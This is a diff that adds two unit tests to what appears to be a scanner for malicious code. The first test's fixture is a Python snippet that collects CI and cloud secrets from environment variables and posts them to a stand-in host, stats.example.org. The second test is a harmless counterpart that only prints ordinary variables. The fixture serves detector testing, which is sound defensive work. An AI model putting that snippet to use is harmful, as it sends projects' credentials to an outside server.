@@ -154,3 +154,24 @@ fn extended_attributes_listed_or_other_ones_removed_disable_nothing() {
     assert!(!rules(&a).contains(&"MB924"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+/// Variables read through a name a loop takes from a table of names are
+/// each of them: a dict of CI tokens built that way and posted is several
+/// variables sent (74bcfa0: LOW).
+#[test]
+fn variables_read_from_a_table_of_names_and_posted_are_several_sent() {
+    let ci = "import json, os, urllib.request\nNAMES = ('CI_JOB_TOKEN', 'NPM_TOKEN', 'GH_TOKEN', 'AWS_SECRET_ACCESS_KEY')\ndef ctx():\n    return {n: os.environ.get(n, '') for n in NAMES}\ndef send(body):\n    req = urllib.request.Request('https://stats.example.org/run', data=json.dumps(body).encode())\n    urllib.request.urlopen(req)\nsend({'run': ctx()})\n";
+    let a = run(ci);
+    assert!(rules(&a).contains(&"MB421"), "{:?}", a.findings);
+    assert!(a.verdict >= Verdict::High);
+}
+
+/// One variable read through a loop over one name, or a table of names
+/// only printed, sends nothing.
+#[test]
+fn a_table_of_names_read_and_printed_sends_nothing() {
+    let show = "import os\nNAMES = ('HOME', 'SHELL', 'LANG', 'TERM')\nfor n in NAMES:\n    print(n, os.environ.get(n))\n";
+    let a = run(show);
+    assert!(!rules(&a).contains(&"MB421"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High);
+}
